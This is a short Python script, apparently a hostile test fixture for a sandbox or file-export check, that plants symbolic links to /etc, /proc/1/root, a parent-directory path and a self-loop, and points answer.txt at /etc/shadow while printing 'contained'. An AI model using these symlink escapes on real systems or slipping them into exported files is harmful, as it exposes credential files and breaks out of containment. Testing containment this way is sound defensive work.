# hostile: symbolic links for whoever follows them on the host; exports
import os

for name, target in (("etc", "/etc"), ("secret", open("/dev/stdin").readline().strip()), ("up", "../../.."), ("loop", "loop"), ("root", "/proc/1/root")):
    os.symlink(target, name)
os.symlink("/etc/shadow", "answer.txt")
print("contained")
